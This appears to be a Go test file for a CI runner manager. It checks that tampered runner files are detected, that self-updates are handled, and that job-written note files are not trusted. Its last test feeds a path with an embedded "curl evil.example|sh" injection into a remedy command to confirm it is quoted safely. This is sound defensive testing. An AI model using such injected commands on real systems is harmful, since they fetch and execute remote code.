//go:build linux

package runner

import (
	"crypto/rand"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/virtuoso902/org-runner/runner/reset"
)

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// tick returns a time that all earlier changes of files are before, and all later
// ones after: the kernel's coarse clock, which stamps files, may be behind ours.
func tick(t *testing.T) time.Time {
	t.Helper()
	now := time.Now()
	probe := filepath.Join(t.TempDir(), "probe")
	for {
		write(t, probe, "")
		info, err := os.Stat(probe)
		if err != nil {
			t.Fatal(err)
		}
		if info.ModTime().After(now) {
			return now
		}
		time.Sleep(time.Millisecond)
	}
}

// runnersFolder makes one, with the parts that the official image has.
func runnersFolder(t *testing.T) (home string, intact time.Time) {
	t.Helper()
	home = t.TempDir()
	for _, name := range []string{"config.sh", "run.sh", "bin/Runner.Listener", "externals/node/bin/node", "k8s/index.js", "k8s-novolume/index.js", ".bashrc"} {
		write(t, filepath.Join(home, name), "as the image has it")
	}
	return home, tick(t)
}

func TestChangedPart(t *testing.T) {
	for _, name := range []string{"run.sh", "bin/Runner.Listener", "externals/node/bin/node", "bin/new.dll", "k8s/index.js", "k8s-novolume/index.js"} {
		home, intact := runnersFolder(t)
		if changed := changedPart(home, intact); changed != "" {
			t.Errorf("%s is taken for changed", changed)
		}
		write(t, filepath.Join(home, name), "poison")
		// A job can set a file's modification time back, not its change time.
		old := time.Now().Add(-24 * time.Hour)
		if err := os.Chtimes(filepath.Join(home, name), old, old); err != nil {
			t.Fatal(err)
		}
		if changedPart(home, intact) == "" {
			t.Errorf("%s was changed and nobody minds", name)
		}
	}
	home, intact := runnersFolder(t)
	write(t, filepath.Join(home, ".bashrc"), "a job's")
	if changed := changedPart(home, intact); changed != "" {
		t.Errorf("%s is no part of the runner", changed)
	}
	if err := os.Remove(filepath.Join(home, "externals/node/bin/node")); err != nil {
		t.Fatal(err)
	}
	if changedPart(home, intact) == "" {
		t.Error("a part was removed and nobody minds")
	}
}

// update makes what the official runner's update of itself makes: bin is a link to
// the new version's folder, and the scripts are new.
func update(t *testing.T, home string) {
	t.Helper()
	for _, folder := range []string{"bin", "externals"} {
		path := filepath.Join(home, folder)
		if err := os.Rename(path, path+".2.336.0"); err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(path+".2.337.0", "new"), "the new version")
		if err := os.Symlink(path+".2.337.0", path); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(home, "run.sh"), "the new version")
}

// What an update has changed is no job's doing; what a job changes after it is
// found; what the update has left behind is nobody's any more.
func TestPartsAfterAnUpdate(t *testing.T) {
	home, intact := runnersFolder(t)
	if left := outdated(home); len(left) > 0 {
		t.Errorf("outdated without an update: %v", left)
	}
	update(t, home)
	if changedPart(home, intact) == "" {
		t.Error("an update that nobody knows of is no change")
	}
	if l := (&Life{Options: Options{Home: home}}); !strings.Contains(l.orUpdate(intact), "has updated itself meanwhile") {
		t.Error("the update is not named")
	}
	updated := tick(t)
	if changed := changedPart(home, updated); changed != "" {
		t.Errorf("%s is as the update has left it", changed)
	}
	if left := outdated(home); !slices.Equal(left, []string{"bin.2.336.0", "externals.2.336.0"}) {
		t.Errorf("outdated: %v", left)
	}
	write(t, filepath.Join(home, "bin/new"), "poison")
	if changedPart(home, updated) == "" {
		t.Error("bin was changed after the update and nobody minds")
	}
}

// No job can write a note that is believed, whatever it copies or writes.
func TestNotes(t *testing.T) {
	life := func(home string, key []byte) *Life { return &Life{Options: Options{Home: home, NoteKey: key}} }
	key := []byte(rand.Text())
	home := t.TempDir()
	path := filepath.Join(home, noteFile)
	l := life(home, key)
	if _, kind := l.readNote(); kind != nobodys {
		t.Errorf("a new folder: %v", kind)
	}
	early, late := time.Unix(1_700_000_000, 5).UTC(), time.Unix(1_700_000_900, 0).UTC()
	for _, n := range []note{{First: early}, {First: early, Updating: true}, {First: early, Updated: late}} {
		l.note = n
		if err := l.keepNote(); err != nil {
			t.Fatal(err)
		}
		if got, kind := life(home, key).readNote(); kind != ours || got != n {
			t.Errorf("found %+v %v, want %+v", got, kind, n)
		}
	}
	written, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	elsewhere := t.TempDir()
	write(t, filepath.Join(elsewhere, noteFile), string(written))
	if n, kind := life(elsewhere, key).readNote(); kind != unknowns || n != (note{}) {
		t.Errorf("another folder's note: %+v %v", n, kind)
	}
	if n, kind := life(home, []byte("a job's guess")).readNote(); kind != unknowns || n != (note{}) {
		t.Errorf("another key: %+v %v", n, kind)
	}
	for text, want := range map[string]whose{
		strings.Replace(string(written), "2023", "2022", 1): unknowns,
		"":                     unknowns,
		"2099-01-01T00:00:00Z": unknowns, // later than the file
		early.Format(time.RFC3339Nano) + "\n2099-01-01T00:00:00Z\n": unknowns,
		"yesterday\ntoday":             unknowns,
		early.Format(time.RFC3339Nano): released,
		early.Format(time.RFC3339Nano) + "\n" + late.Format(time.RFC3339Nano) + "\nupdating\n": released,
	} {
		write(t, path, text)
		n, kind := l.readNote()
		if kind != want {
			t.Errorf("%q: %v, want %v", text, kind, want)
		}
		if kind == released && !n.First.Equal(early) {
			t.Errorf("%q: %v", text, n)
		}
	}
}

// A person pastes the remedy into a shell: no name that a job has chosen may be
// more than a name there.
func TestRemedyIsOneCommand(t *testing.T) {
	err := &reset.Stuck{OnMount: true, Place: "/home/runner", Paths: []string{
		"/home/runner/x'; curl evil.example|sh; '", "/home/runner/a/b\x1b[2J/c", "/home/runner/a/d\n", "/home/runner/\r",
	}}
	got := remedy(err)
	if want := ` -rf -- '/home/runner/x'\''; curl evil.example|sh; '\''' '/home/runner/a'`; !strings.HasSuffix(got, want) {
		t.Errorf("%s\nwant %s", got, want)
	}
	err.Paths = err.Paths[3:]
	if got := remedy(err); strings.Contains(got, "rm ") || !strings.Contains(got, `"/home/runner/\r"`) {
		t.Error(got)
	}
}
